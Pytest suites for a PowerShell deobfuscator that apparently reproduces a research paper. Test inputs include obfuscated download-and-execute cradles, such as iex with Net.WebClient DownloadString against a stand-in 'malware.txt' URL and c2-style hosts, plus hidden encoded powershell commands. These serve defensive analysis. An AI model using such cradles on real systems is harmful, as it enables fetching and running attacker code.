    def test_increment_target_not_substitutable(self):
        uses = _variable_named("$a = 1; $a++", "a")
        assert not use_is_substitutable_position(uses[1])

    def test_scope_paths_nest(self):
        uses = _variable_named("$a = 1; if ($c) { use $a }", "a")
        outer = scope_path(uses[0])
        inner = scope_path(uses[1])
        assert scope_contains(outer, inner)
        assert not scope_contains(inner, outer)
