"""Tests for multi-layer unwrapping (Section III-B4)."""

import base64

from repro.core.multilayer import (
    decode_encoded_command,
    unwrap_layers,
)
from repro.core.pipeline import deobfuscate


def enc(script: str) -> str:
    return base64.b64encode(script.encode("utf-16-le")).decode()


class TestDecodeEncodedCommand:
    def test_roundtrip(self):
        assert decode_encoded_command(enc("write-host hi")) == "write-host hi"

    def test_garbage_returns_none(self):
        assert decode_encoded_command("!!!not base64!!!") is None

    def test_plain_base64_of_binary_returns_none(self):
        blob = base64.b64encode(bytes(range(7))).decode()
        assert decode_encoded_command(blob) is None


class TestUnwrapForms:
    def test_iex_with_literal(self):
        result, count = unwrap_layers("iex 'write-host hi'")
        assert result == "write-host hi"
        assert count == 1

    def test_invoke_expression_full_name(self):
        result, count = unwrap_layers("Invoke-Expression 'write-host hi'")
        assert result == "write-host hi"

    def test_pipe_into_iex(self):
        result, count = unwrap_layers("'write-host hi' | iex")
        assert result == "write-host hi"

    def test_call_operator_quoted_iex(self):
        result, count = unwrap_layers("&'iex' 'write-host hi'")
        assert result == "write-host hi"

    def test_dot_call_paren_iex(self):
        result, count = unwrap_layers(".('iex') 'write-host hi'")
        assert result == "write-host hi"

    def test_powershell_encodedcommand(self):
        result, count = unwrap_layers(
            f"powershell -EncodedCommand {enc('write-host hi')}"
        )
        assert result == "write-host hi"

    def test_powershell_e_prefix(self):
        result, count = unwrap_layers(f"powershell -e {enc('gci')}")
        assert result == "gci"

    def test_powershell_enc_mixed_case(self):
        result, count = unwrap_layers(f"PoWeRsHeLl -eNc {enc('gci')}")
        assert result == "gci"

    def test_powershell_with_noise_flags(self):
        result, count = unwrap_layers(
            f"powershell -NoP -NonI -W Hidden -e {enc('dir')}"
        )
        assert result == "dir"

    def test_powershell_command_flag(self):
        result, count = unwrap_layers("powershell -Command 'write-host x'")
        assert result == "write-host x"

    def test_powershell_exe_path(self):
        result, count = unwrap_layers(
            f"C:\\Windows\\System32\\powershell.exe -e {enc('dir')}"
        )
        assert result == "dir"


class TestUnwrapSafety:
    def test_non_literal_argument_kept(self):
        source = "iex $command"
        result, count = unwrap_layers(source)
        assert result == source
        assert count == 0

    def test_invalid_payload_kept(self):
        source = "iex 'not ( valid'"
        result, count = unwrap_layers(source)
        assert result == source

    def test_unrelated_command_kept(self):
        source = "write-host 'iex'"
        result, count = unwrap_layers(source)
        assert result == source

    def test_embedded_unwrap_keeps_context(self):
        source = "$a = 1\niex 'write-host hi'\n$b = 2"
        result, count = unwrap_layers(source)
        assert "$a = 1" in result
        assert "write-host hi" in result
        assert "$b = 2" in result

    def test_expandable_string_without_vars_unwrapped(self):
        result, count = unwrap_layers('iex "write-host hi"')
        assert result == "write-host hi"

    def test_expandable_string_with_vars_kept(self):
        source = 'iex "write-host $x"'
        result, count = unwrap_layers(source)
        assert result == source


class TestMultiLayerEndToEnd:
    def test_two_layers(self):
        inner = "write-host hello"
        layer1 = f"iex '{inner}'"
        layer2 = f"iex \"iex 'write-host hello'\""
        result = deobfuscate(layer2)
        assert result.script.strip().lower() == "write-host hello"

    def test_three_layers_encoded(self):
        inner = "write-host deep"
        layer1 = f"powershell -e {enc(inner)}"
        layer2 = f"powershell -enc {enc(layer1)}"
        layer3 = f"iex '{layer2.replace(chr(39), chr(39)*2)}'"
        result = deobfuscate(layer3)
        assert result.script.strip().lower() == "write-host deep"
        assert result.layers_unwrapped >= 3

    def test_layer_with_inner_obfuscation(self):
        inner_obfuscated = "IeX ('wri'+'te-host hi')"
        outer = f"powershell -enc {enc(inner_obfuscated)}"
        result = deobfuscate(outer)
        assert result.script.strip() == "Write-Host hi"
