"""End-to-end tests for the full Deobfuscator pipeline."""

import base64

from repro import PipelineOptions, Deobfuscator, deobfuscate


def enc(script: str) -> str:
    return base64.b64encode(script.encode("utf-16-le")).decode()


class TestEndToEnd:
    def test_clean_script_unchanged_semantically(self):
        result = deobfuscate("Write-Host hello")
        assert result.script == "Write-Host hello"
        assert not result.changed

    def test_l1_ticking_alias_case(self):
        result = deobfuscate("I`E`X ('wri'+'te-host hi')")
        assert result.script.strip() == "Write-Host hi"

    def test_l2_concat(self):
        result = deobfuscate("$x = 'mal'+'ware'")
        assert "'malware'" in result.script

    def test_l3_base64(self):
        payload = base64.b64encode("https://c2.test/x".encode()).decode()
        script = (
            "$u = [Text.Encoding]::UTF8.GetString("
            f"[Convert]::FromBase64String('{payload}'))"
        )
        result = deobfuscate(script)
        assert "'https://c2.test/x'" in result.script

    def test_invalid_input_returned(self):
        result = deobfuscate("'unterminated")
        assert not result.valid_input
        assert result.script == "'unterminated"

    def test_result_metadata(self):
        from repro.obs import PipelineStats

        result = deobfuscate("iex ('a'+'b')")
        assert result.iterations >= 1
        assert result.elapsed_seconds >= 0
        assert isinstance(result.stats, PipelineStats)
        assert result.stats.pieces_recovered >= 1
        assert result.stats.variables_traced == 0

    def test_phase_spans_recorded(self):
        result = deobfuscate("iex ('a'+'b')")
        assert result.stats.spans, "spans should be on by default"
        assert set(result.stats.phase_seconds) >= {
            "token", "ast", "multilayer", "rename", "reformat",
        }
        assert all(s.seconds >= 0 for s in result.stats.spans)

    def test_collect_spans_off_keeps_counters(self):
        tool = Deobfuscator(options=PipelineOptions(collect_spans=False))
        result = tool.deobfuscate("iex ('a'+'b')")
        assert result.stats.spans == []
        assert result.stats.phase_seconds == {}
        assert result.stats.pieces_recovered >= 1

    def test_recovery_outcomes_counted(self):
        result = deobfuscate(
            "$x = 'a'+'b'\n"
            "(New-Object Net.WebClient).DownloadString('http://x.test/')"
        )
        outcomes = result.stats.recovery_outcomes
        assert outcomes["recovered"] >= 1
        assert outcomes["blocked"] >= 1
        assert result.stats.evaluator_steps > 0

    def test_layers_recorded(self):
        result = deobfuscate("iex 'iex ''write-host x'''")
        assert len(result.layers) >= 1


class TestPaperCaseStudy:
    """Fig 7: the paper's running example, end to end."""

    CASE = (
        "I`E`X (\"{2}{0}{1}\" -f 'ost h', 'ello', 'write-h')\n"
        "$xdjmd = 'aAB0AHQAcABzADoALwAvAHQAZQBzAHQALgBjAG'\n"
        "$lsffs = '8AbQAvAG0AYQBsAHcAYQByAGUALgB0AHgAdAA='\n"
        "$sdfs = [TeXT.eNcOdINg]::Unicode.GetString("
        "[Convert]::FromBase64String($xdjmd + $lsffs))\n"
        ".($psHoME[4]+$PSHOME[30]+'x') (NeW-oBJeCt Net.WebClient)"
        ".downloadstring($sdfs)"
    )

    def test_final_output_matches_fig7d(self):
        result = deobfuscate(self.CASE)
        lines = result.script.splitlines()
        assert lines[0] == "Write-Host hello"
        assert lines[1].startswith("$var0 = 'aAB0AHQAcABzADoALwAv")
        assert lines[2].startswith("$var1 = '8AbQAvAG0AYQBsAHcAYQBy")
        assert lines[3] == "$var2 = 'https://test.com/malware.txt'"
        assert lines[4].startswith(".('iex')")
        assert "'https://test.com/malware.txt'" in lines[4]

    def test_network_sink_not_executed(self):
        # downloadstring is on the blocklist: it must survive as code.
        result = deobfuscate(self.CASE)
        assert "DownloadString(" in result.script

    def test_url_recovered(self):
        result = deobfuscate(self.CASE)
        assert "https://test.com/malware.txt" in result.script


class TestAblationFlags:
    def test_no_token_phase(self):
        tool = Deobfuscator(options=PipelineOptions(token_phase=False, rename=False, reformat=False))
        result = tool.deobfuscate("I`E`X 'write-host x'")
        # The AST phase resolves the command via alias knowledge in the
        # multilayer unwrapper, but the tick removal is token-phase work.
        assert result.script == "write-host x"

    def test_no_ast_phase(self):
        tool = Deobfuscator(options=PipelineOptions(ast_phase=False, rename=False, reformat=False))
        result = tool.deobfuscate("$x = 'a'+'b'")
        assert "'a'+'b'" in result.script

    def test_no_variable_tracing(self):
        tool = Deobfuscator(options=PipelineOptions(trace_variables=False, rename=False,
                            reformat=False))
        result = tool.deobfuscate("$u = 'a'+'b'; use $u")
        assert "use $u" in result.script

    def test_no_multilayer(self):
        tool = Deobfuscator(options=PipelineOptions(multilayer=False, rename=False, reformat=False))
        result = tool.deobfuscate("iex 'write-host x'")
        assert "Invoke-Expression" in result.script

    def test_no_rename(self):
        tool = Deobfuscator(options=PipelineOptions(rename=False))
        result = tool.deobfuscate("$xqzjw = 'a'+'b'")
        assert "$xqzjw" in result.script

    def test_no_reformat(self):
        tool = Deobfuscator(options=PipelineOptions(reformat=False, rename=False))
        result = tool.deobfuscate("write-host     hi")
        assert "     " in result.script


class TestMultiLayerFixpoint:
    def test_deeply_nested_layers(self):
        script = "write-host core"
        for _ in range(4):
            script = f"powershell -enc {enc(script)}"
        result = deobfuscate(script)
        assert result.script.strip().lower() == "write-host core"

    def test_max_iterations_terminates(self):
        tool = Deobfuscator(options=PipelineOptions(max_iterations=2))
        script = "write-host x"
        for _ in range(6):
            script = f"powershell -enc {enc(script)}"
        result = tool.deobfuscate(script)
        assert result.iterations <= 2
