"""Tests for the pipeline's cooperative ``deadline_seconds`` budget."""

from repro import PipelineOptions, Deobfuscator, deobfuscate

NESTED = "iex 'iex ''write-host x'''"


class TestDeadline:
    def test_no_deadline_by_default(self):
        result = deobfuscate(NESTED)
        assert result.timed_out is False
        assert result.script == "Write-Host x"

    def test_generous_deadline_completes(self):
        result = deobfuscate(NESTED, options=PipelineOptions(deadline_seconds=60.0))
        assert result.timed_out is False
        assert result.script == "Write-Host x"

    def test_zero_deadline_times_out_immediately(self):
        result = deobfuscate(NESTED, options=PipelineOptions(deadline_seconds=0.0))
        assert result.timed_out is True
        # best-effort partial result: the input, untouched
        assert result.script == NESTED
        assert result.valid_input is True

    def test_timed_out_still_reports_elapsed(self):
        result = deobfuscate(NESTED, options=PipelineOptions(deadline_seconds=0.0))
        assert result.elapsed_seconds >= 0.0

    def test_invalid_input_is_not_timed_out(self):
        result = deobfuscate("'unterminated", options=PipelineOptions(deadline_seconds=0.0))
        assert result.valid_input is False
        assert result.timed_out is False

    def test_deadline_constructor_parameter(self):
        tool = Deobfuscator(options=PipelineOptions(deadline_seconds=0.0))
        assert tool.deobfuscate(NESTED).timed_out is True


class FakeTime:
    """Stand-in for the ``time`` module: every read advances 1 second."""

    def __init__(self):
        self.now = 0.0

    def perf_counter(self) -> float:
        self.now += 1.0
        return self.now


class TestTimedOutTelemetry:
    """A run that hits the deadline still carries partial phase spans."""

    def test_partial_spans_survive_timeout(self, monkeypatch):
        # The pipeline reads its clock ~3 times per iteration (deadline
        # checks); with a 3.5 s budget on a 1 s-per-read fake clock the
        # first iteration completes and the second trips the deadline —
        # deterministically, regardless of host speed.
        monkeypatch.setattr("repro.core.pipeline.time", FakeTime())
        tool = Deobfuscator(options=PipelineOptions(deadline_seconds=3.5))
        result = tool.deobfuscate(NESTED)
        assert result.timed_out is True
        phases_run = {span.name for span in result.stats.spans}
        assert {"token", "ast", "multilayer"} <= phases_run
        assert "rename" not in phases_run  # post-processing was skipped
        assert set(result.stats.phase_seconds) == phases_run

    def test_zero_deadline_has_no_spans_but_valid_stats(self):
        result = deobfuscate(NESTED, options=PipelineOptions(deadline_seconds=0.0))
        assert result.timed_out is True
        assert result.stats.spans == []
        # The record still serializes round-trip cleanly.
        from repro.obs import PipelineStats

        data = result.stats.to_dict()
        assert PipelineStats.from_dict(data).to_dict() == data
