"""Tests for the pipeline's cooperative ``deadline_seconds`` budget."""

from repro import Deobfuscator, deobfuscate

NESTED = "iex 'iex ''write-host x'''"


class TestDeadline:
    def test_no_deadline_by_default(self):
        result = deobfuscate(NESTED)
        assert result.timed_out is False
        assert result.script == "Write-Host x"

    def test_generous_deadline_completes(self):
        result = deobfuscate(NESTED, deadline_seconds=60.0)
        assert result.timed_out is False
        assert result.script == "Write-Host x"

    def test_zero_deadline_times_out_immediately(self):
        result = deobfuscate(NESTED, deadline_seconds=0.0)
        assert result.timed_out is True
        # best-effort partial result: the input, untouched
        assert result.script == NESTED
        assert result.valid_input is True

    def test_timed_out_still_reports_elapsed(self):
        result = deobfuscate(NESTED, deadline_seconds=0.0)
        assert result.elapsed_seconds >= 0.0

    def test_invalid_input_is_not_timed_out(self):
        result = deobfuscate("'unterminated", deadline_seconds=0.0)
        assert result.valid_input is False
        assert result.timed_out is False

    def test_deadline_constructor_parameter(self):
        tool = Deobfuscator(deadline_seconds=0.0)
        assert tool.deobfuscate(NESTED).timed_out is True
