"""Tests for phase 1 — token parsing (Section III-A)."""

from repro.core.token_deobfuscator import (
    deobfuscate_tokens,
    token_obfuscation_present,
)


class TestTicking:
    def test_command_ticks_removed(self):
        assert (
            deobfuscate_tokens("nE`w-oB`jEcT Net.WebClient")
            == "New-Object Net.WebClient"
        )

    def test_argument_ticks_removed(self):
        result = deobfuscate_tokens("write-host he`llo")
        assert "`" not in result

    def test_ticks_inside_single_quotes_kept(self):
        source = "write-host 'tick ` stays'"
        assert "`" in deobfuscate_tokens(source)


class TestAlias:
    def test_iex_expanded(self):
        assert deobfuscate_tokens("IeX 'x'") == "Invoke-Expression 'x'"

    def test_percent_expanded(self):
        result = deobfuscate_tokens("1..3 | % { $_ }")
        assert "ForEach-Object" in result

    def test_sal_expanded(self):
        result = deobfuscate_tokens("sal x iex")
        assert result.startswith("Set-Alias")

    def test_unknown_command_kept(self):
        assert deobfuscate_tokens("My-Command 1") == "My-Command 1"


class TestRandomCase:
    def test_known_command_canonicalized(self):
        assert (
            deobfuscate_tokens("wRiTe-HoSt hello") == "Write-Host hello"
        )

    def test_keyword_lowered(self):
        result = deobfuscate_tokens("ForEach ($i in 1..3) { $i }")
        assert result.startswith("foreach")

    def test_type_canonicalized(self):
        result = deobfuscate_tokens("[ChAr]97")
        assert result == "[char]97"

    def test_member_canonicalized(self):
        result = deobfuscate_tokens("'x'.rEpLaCe('a','b')")
        assert ".Replace(" in result

    def test_string_contents_untouched(self):
        source = "write-host 'WeIrD CaSe'"
        assert "'WeIrD CaSe'" in deobfuscate_tokens(source)


class TestCombined:
    def test_paper_listing2(self):
        source = (
            "(nE`w-oBjE`Ct nET.wE`bcLiEnT).DoWNlOaDsTrIng("
            "'https://test.com/malware.txt')"
        )
        result = deobfuscate_tokens(source)
        assert "New-Object" in result
        assert ".DownloadString(" in result
        assert "`" not in result
        assert "'https://test.com/malware.txt'" in result

    def test_offsets_stay_consistent(self):
        source = "IeX 'a'; IeX 'b'; IeX 'c'"
        result = deobfuscate_tokens(source)
        assert result.count("Invoke-Expression") == 3

    def test_invalid_script_returned_unchanged(self):
        source = "'unterminated"
        assert deobfuscate_tokens(source) == source

    def test_idempotent(self):
        source = "I`eX (nEw-oBjEcT Net.WebClient)"
        once = deobfuscate_tokens(source)
        assert deobfuscate_tokens(once) == once


class TestDetection:
    def test_detects_alias(self):
        assert token_obfuscation_present("iex 'x'")

    def test_clean_script(self):
        assert not token_obfuscation_present("Write-Host hello")
