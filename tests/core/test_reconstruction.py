"""Tests for AST recovery, variable tracing and in-place replacement."""

from repro.core.reconstruction import AstDeobfuscator
from repro.core.recovery import RecoveryEngine, quote_single, stringify_result
from repro.runtime.values import PSChar


def recover(script, **kwargs):
    return AstDeobfuscator(**kwargs).process(script)


class TestStringify:
    def test_string(self):
        assert stringify_result("abc") == "'abc'"

    def test_string_with_quote(self):
        assert stringify_result("it's") == "'it''s'"

    def test_number_bare(self):
        assert stringify_result(123) == "123"

    def test_char_kept(self):
        # [char] results must not be textually replaced: [int][char]62
        # is 62 but [int]'>' is an error.
        assert stringify_result(PSChar("x")) is None

    def test_bool_kept(self):
        assert stringify_result(True) is None

    def test_null_kept(self):
        assert stringify_result(None) is None

    def test_object_kept(self):
        assert stringify_result(object()) is None

    def test_quote_single(self):
        assert quote_single("a'b") == "'a''b'"


class TestBasicRecovery:
    def test_concat(self):
        assert recover("'a'+'b'") == "'ab'"

    def test_format(self):
        assert (
            recover("\"{1}{0}\" -f 'host','write-'") == "'write-host'"
        )

    def test_cast_chain(self):
        assert recover("[string][char]39") == "''''"  # a quote, quoted

    def test_number_result_bare(self):
        assert recover("2+3") == "5"

    def test_reverse_index(self):
        assert recover("'cba'[-1..-3] -join ''") == "'abc'"

    def test_already_plain_literal_unchanged(self):
        assert recover("'hello'") == "'hello'"
        assert recover("42") == "42"

    def test_inner_piece_recovered_in_place(self):
        result = recover("write-host ('wor'+'ld')")
        assert result == "write-host ('world')"

    def test_piece_as_method_argument(self):
        result = recover("$x.Replace(('a'+'b'),'c')")
        assert "'ab'" in result

    def test_unsupported_piece_kept(self):
        source = "invoke-mystery ('a'+'b')"
        result = recover(source)
        assert result == "invoke-mystery ('ab')"

    def test_blocked_piece_kept(self):
        source = "(New-Object Net.WebClient).downloadstring('http://x/')"
        assert recover(source) == source

    def test_object_result_kept(self):
        source = "(New-Object Net.WebClient)"
        assert recover(source) == source

    def test_invalid_script_returned(self):
        assert recover("'unterminated") == "'unterminated"


class TestInPlaceSemantics:
    """The paper's key property: identical pieces, different contexts."""

    def test_identical_pieces_in_different_contexts(self):
        # The same textual piece appears as data and as part of a larger
        # string; each occurrence is replaced on its own extent.
        source = "$a = 'x'+'y'; write-host ('x'+'y')"
        result = recover(source)
        assert result == "$a = 'xy'; write-host ('xy')"

    def test_replacement_does_not_touch_strings(self):
        source = "write-host \"literal 'a'+'b' inside\""
        assert recover(source) == source

    def test_comments_preserved(self):
        source = "# header comment\n$x = 'a'+'b'"
        result = recover(source)
        assert result.startswith("# header comment")
        assert "'ab'" in result


class TestVariableTracing:
    def test_simple_substitution(self):
        result = recover("$u = 'http://'+'x.com'; iex $u")
        assert "iex 'http://x.com'" in result

    def test_chained_assignments(self):
        result = recover("$a = 'down'; $b = $a + 'load'; write-x $b")
        assert "'download'" in result

    def test_assignment_kept_in_output(self):
        # The paper keeps assignment lines (Fig 7d).
        result = recover("$a = 'x'+'y'; write-h $a")
        assert result.startswith("$a = 'xy';")

    def test_unknown_rhs_abandons_variable(self):
        source = "$a = $mystery + 'x'; use $a"
        result = recover(source)
        assert result.endswith("use $a")

    def test_conditional_assignment_not_traced(self):
        source = "$a = 'x'; if ($c) { $a = 'y' }; use $a"
        result = recover(source)
        # After the conditional reassignment the variable is untrusted.
        assert result.endswith("use $a")

    def test_use_before_conditional_reassignment_is_substituted(self):
        source = "$a = 'x'; use $a; if ($c) { $a = 'y' }"
        result = recover(source)
        assert "use 'x';" in result

    def test_loop_assignment_not_traced(self):
        source = "while ($true) { $a = 'x' }\nuse $a"
        result = recover(source)
        assert result.endswith("use $a")

    def test_use_inside_loop_not_substituted(self):
        source = "$a = 'x'; foreach ($i in 1..2) { use $a }"
        result = recover(source)
        assert "use $a" in result

    def test_assignment_lhs_not_substituted(self):
        result = recover("$a = 'x'; $a = 'y'; use $a")
        assert "$a = 'y'" in result
        assert "use 'y'" in result

    def test_compound_assignment_traced(self):
        result = recover("$a = 'x'; $a += 'y'; use $a")
        assert "use 'xy'" in result

    def test_numeric_substitution(self):
        result = recover("$n = 40+2; use $n")
        assert "use 42" in result

    def test_array_value_recorded_not_substituted(self):
        # Arrays feed evaluation but are not substituted textually.
        source = "$k = 1..4; use $k"
        result = recover(source)
        assert "use $k" in result

    def test_variable_feeds_recovery(self):
        source = "$p = 'lo'; $msg = 'hel' + $p; use $msg"
        result = recover(source)
        assert "use 'hello'" in result

    def test_scope_nested_use_allowed(self):
        source = "$a = 'v'; if ($true) { use $a }"
        result = recover(source)
        assert "use 'v'" in result

    def test_tracing_disabled(self):
        source = "$u = 'a'+'b'; use $u"
        result = recover(source, trace_variables=False)
        assert "use $u" in result
        assert "$u = 'ab'" in result  # recovery still runs

    def test_env_override_traced(self):
        source = "$env:xyz = 'pay'+'load'; iex $env:xyz"
        result = recover(source)
        # env var uses are not textually substituted but evaluation sees
        # them: the iex argument itself is not a recoverable node here, so
        # the script shape is unchanged except the RHS recovery.
        assert "$env:xyz = 'payload'" in result

    def test_stats_populated(self):
        engine = AstDeobfuscator()
        engine.process("$a = 'x'+'y'; use $a")
        assert engine.stats.variables_traced >= 1
        assert engine.stats.variables_substituted >= 1
        assert engine.stats.pieces_recovered >= 1


class TestPaperExamples:
    def test_listing3_reorder(self):
        source = (
            'Invoke-Expression (("{13}{0}{8}{6}{12}{16}{7}{14}{10}{1}{9}'
            '{5}{15}{3}{2}{11}{4}" -f\'e\',\'Uht\',\'om/malwar\',\'t.c\','
            "'.txtjYU)','://','et','nloadst','ct N','tps','(jY','e',"
            "'.WebCl','(New-Obj','r','tes','ient).dow'"
            ").RepLACe('jYU',[STRiNg][CHar]39))"
        )
        result = recover(source)
        assert "'(New-Object Net.WebClient).downloadstr" in result.replace(
            "ct N", "ct N"
        ) or "New-Obj" in result

    def test_pshome_iex(self):
        result = recover(".($pshome[4]+$pshome[30]+'x') 'payload'")
        assert ".('iex') 'payload'" == result
