"""Tests for the ``python -m repro`` command line interface."""

import io
import sys

import pytest

from repro.cli import main


@pytest.fixture
def script_file(tmp_path):
    def make(content: str):
        path = tmp_path / "sample.ps1"
        path.write_text(content, encoding="utf-8")
        return str(path)

    return make


def run_cli(argv, capsys):
    code = main(argv)
    captured = capsys.readouterr()
    return code, captured.out, captured.err


class TestVersionFlag:
    def test_version_prints_package_version(self, capsys):
        from repro import package_version

        with pytest.raises(SystemExit) as excinfo:
            main(["--version"])
        assert excinfo.value.code == 0
        out = capsys.readouterr().out
        assert package_version() in out
        assert out.startswith("repro ")

    def test_version_matches_dunder(self):
        import repro

        assert repro.package_version() == repro.__version__


class TestDeobfuscateCommand:
    def test_basic(self, script_file, capsys):
        path = script_file("I`E`X ('wri'+'te-host hi')")
        code, out, err = run_cli(["deobfuscate", path], capsys)
        assert code == 0
        assert out.strip() == "Write-Host hi"

    def test_invalid_input(self, script_file, capsys):
        path = script_file("'unterminated")
        code, out, err = run_cli(["deobfuscate", path], capsys)
        assert code == 1
        assert "not a valid" in err

    def test_show_layers(self, script_file, capsys):
        path = script_file("iex 'iex ''write-host x'''")
        code, out, err = run_cli(
            ["deobfuscate", "--show-layers", path], capsys
        )
        assert code == 0
        assert "layer 1" in out

    def test_no_rename(self, script_file, capsys):
        path = script_file("$xqzjw = 'a'+'b'")
        code, out, _ = run_cli(["deobfuscate", "--no-rename", path], capsys)
        assert "$xqzjw" in out

    def test_stats_flag_keeps_stdout_clean(self, script_file, capsys):
        path = script_file("I`E`X ('wri'+'te-host hi')")
        code, out, err = run_cli(["deobfuscate", "--stats", path], capsys)
        assert code == 0
        assert out.strip() == "Write-Host hi"
        assert "=== pipeline profile ===" in err
        assert "recovery" in err


class TestProfileCommand:
    def test_text_profile(self, script_file, capsys):
        path = script_file("iex ('a'+'b')")
        code, out, _ = run_cli(["profile", path], capsys)
        assert code == 0
        assert "=== pipeline profile ===" in out
        assert "phases" in out
        assert "ast" in out
        # The profile replaces the script, not prints it.
        assert "'ab'" not in out

    def test_json_profile_round_trips(self, script_file, capsys):
        import json

        from repro.obs import STATS_SCHEMA_VERSION, PipelineStats

        path = script_file("$x = 'a'+'b'")
        code, out, _ = run_cli(["profile", "--json", path], capsys)
        assert code == 0
        payload = json.loads(out)
        assert payload["valid_input"] is True
        stats = payload["stats"]
        assert stats["schema_version"] == STATS_SCHEMA_VERSION
        assert PipelineStats.from_dict(stats).to_dict() == stats

    def test_invalid_input_exit_code(self, script_file, capsys):
        path = script_file("'unterminated")
        code, _, _ = run_cli(["profile", path], capsys)
        assert code == 1


class TestScoreCommand:
    def test_scores(self, script_file, capsys):
        path = script_file("iex ('a'+'b')")
        code, out, _ = run_cli(["score", path], capsys)
        assert code == 0
        assert "alias" in out
        assert "concat" in out
        assert "score:" in out


class TestKeyinfoCommand:
    def test_extracts(self, script_file, capsys):
        path = script_file(
            "(New-Object Net.WebClient)"
            ".DownloadString('https://x.test/a.ps1')"
        )
        code, out, _ = run_cli(["keyinfo", path], capsys)
        assert code == 0
        assert "url\thttps://x.test/a.ps1" in out
        assert "ps1\t" in out


class TestBehaviorCommand:
    def test_records(self, script_file, capsys):
        path = script_file(
            "(New-Object Net.WebClient).DownloadString('http://c2.io/')"
        )
        code, out, _ = run_cli(["behavior", path], capsys)
        assert code == 0
        assert "net.download_string\thttp://c2.io/" in out


class TestTokenizeParse:
    def test_tokenize(self, script_file, capsys):
        path = script_file("write-host hi")
        code, out, _ = run_cli(["tokenize", path], capsys)
        assert code == 0
        assert "Command" in out

    def test_parse(self, script_file, capsys):
        path = script_file("write-host hi")
        code, out, _ = run_cli(["parse", path], capsys)
        assert code == 0
        assert "ScriptBlockAst" in out
        assert "CommandAst" in out


@pytest.fixture
def events_file(tmp_path):
    """A small JSONL event log with known levels, loggers, traces."""
    import json as _json

    from repro.obs.log import LogEvent

    events = [
        LogEvent(
            ts=1700000000.0, level="info", logger="service.core",
            message="service started", fields={"workers": 2},
        ),
        LogEvent(
            ts=1700000001.0, level="warning", logger="policy.audit",
            message="policy denied capability",
            fields={"capability": "env"},
            trace_id="aaaa000011112222aaaa000011112222",
        ),
        LogEvent(
            ts=1700000002.0, level="error", logger="batch.pool",
            message="worker died", fields={"pid": 41},
            trace_id="bbbb000011112222bbbb000011112222",
        ),
    ]
    path = tmp_path / "events.jsonl"
    path.write_text(
        "".join(
            _json.dumps(e.to_dict(), sort_keys=True) + "\n"
            for e in events
        )
        + "this line is torn garbage\n",
        encoding="utf-8",
    )
    return str(path)


class TestLogsCommand:
    def test_renders_all_events(self, events_file, capsys):
        code, out, _err = run_cli(["logs", events_file], capsys)
        assert code == 0
        lines = out.strip().splitlines()
        assert len(lines) == 3  # garbage line skipped
        assert "service started" in lines[0]
        assert "workers=2" in lines[0]
        assert "trace=bbbb" in lines[2]

    def test_level_filter(self, events_file, capsys):
        code, out, _ = run_cli(
            ["logs", events_file, "--level", "warning"], capsys
        )
        assert code == 0
        lines = out.strip().splitlines()
        assert len(lines) == 2
        assert "WARNING" in lines[0]
        assert "ERROR" in lines[1]

    def test_logger_and_trace_filters(self, events_file, capsys):
        code, out, _ = run_cli(
            ["logs", events_file, "--logger", "policy"], capsys
        )
        assert code == 0
        assert out.count("\n") == 1
        assert "policy denied capability" in out

        code, out, _ = run_cli(
            ["logs", events_file, "--trace", "bbbb"], capsys
        )
        assert code == 0
        assert out.count("\n") == 1
        assert "worker died" in out

    def test_tail_keeps_the_newest(self, events_file, capsys):
        code, out, _ = run_cli(
            ["logs", events_file, "--tail", "1"], capsys
        )
        assert code == 0
        assert out.count("\n") == 1
        assert "worker died" in out

    def test_json_reemits_parseable_lines(self, events_file, capsys):
        import json as _json

        code, out, _ = run_cli(["logs", events_file, "--json"], capsys)
        assert code == 0
        parsed = [
            _json.loads(line) for line in out.strip().splitlines()
        ]
        assert len(parsed) == 3
        assert parsed[1]["fields"]["capability"] == "env"
        assert parsed[1]["schema_version"] == 1

    def test_missing_file_is_an_error(self, tmp_path, capsys):
        code, _out, err = run_cli(
            ["logs", str(tmp_path / "nope.jsonl")], capsys
        )
        assert code == 1
        assert "cannot read" in err


class TestTopCommand:
    def test_once_renders_a_live_service(self, capsys):
        import json as _json
        import urllib.request

        from repro.service import (
            DeobfuscationService,
            ServiceConfig,
            start_server,
        )

        service = DeobfuscationService(
            ServiceConfig(jobs=1, timeout=15.0, queue_limit=8)
        )
        server, thread = start_server(service)
        host, port = server.server_address[:2]
        url = f"http://{host}:{port}"
        try:
            body = _json.dumps({"script": "write-host top"}).encode()
            request = urllib.request.Request(
                url + "/deobfuscate", data=body,
                headers={"Content-Type": "application/json"},
            )
            with urllib.request.urlopen(request, timeout=15.0) as resp:
                trace = _json.loads(resp.read())["trace_id"]

            code, out, _err = run_cli(
                ["top", "--url", url, "--once"], capsys
            )
            assert code == 0
            assert f"repro top — {url}" in out
            assert "window" in out and "p95ms" in out
            # The request we just made shows up as the 1m exemplar.
            assert trace in out
        finally:
            server.shutdown()
            thread.join(timeout=5.0)
            server.server_close()
            service.close()

    def test_once_unreachable_is_exit_1(self, capsys):
        code, _out, err = run_cli(
            ["top", "--url", "http://127.0.0.1:1", "--once"], capsys
        )
        assert code == 1
        assert "cannot fetch" in err
