"""Tests for the ``python -m repro`` command line interface."""

import io
import sys

import pytest

from repro.cli import main


@pytest.fixture
def script_file(tmp_path):
    def make(content: str):
        path = tmp_path / "sample.ps1"
        path.write_text(content, encoding="utf-8")
        return str(path)

    return make


def run_cli(argv, capsys):
    code = main(argv)
    captured = capsys.readouterr()
    return code, captured.out, captured.err


class TestVersionFlag:
    def test_version_prints_package_version(self, capsys):
        from repro import package_version

        with pytest.raises(SystemExit) as excinfo:
            main(["--version"])
        assert excinfo.value.code == 0
        out = capsys.readouterr().out
        assert package_version() in out
        assert out.startswith("repro ")

    def test_version_matches_dunder(self):
        import repro

        assert repro.package_version() == repro.__version__


class TestDeobfuscateCommand:
    def test_basic(self, script_file, capsys):
        path = script_file("I`E`X ('wri'+'te-host hi')")
        code, out, err = run_cli(["deobfuscate", path], capsys)
        assert code == 0
        assert out.strip() == "Write-Host hi"

    def test_invalid_input(self, script_file, capsys):
        path = script_file("'unterminated")
        code, out, err = run_cli(["deobfuscate", path], capsys)
        assert code == 1
        assert "not a valid" in err

    def test_show_layers(self, script_file, capsys):
        path = script_file("iex 'iex ''write-host x'''")
        code, out, err = run_cli(
            ["deobfuscate", "--show-layers", path], capsys
        )
        assert code == 0
        assert "layer 1" in out

    def test_no_rename(self, script_file, capsys):
        path = script_file("$xqzjw = 'a'+'b'")
        code, out, _ = run_cli(["deobfuscate", "--no-rename", path], capsys)
        assert "$xqzjw" in out

    def test_stats_flag_keeps_stdout_clean(self, script_file, capsys):
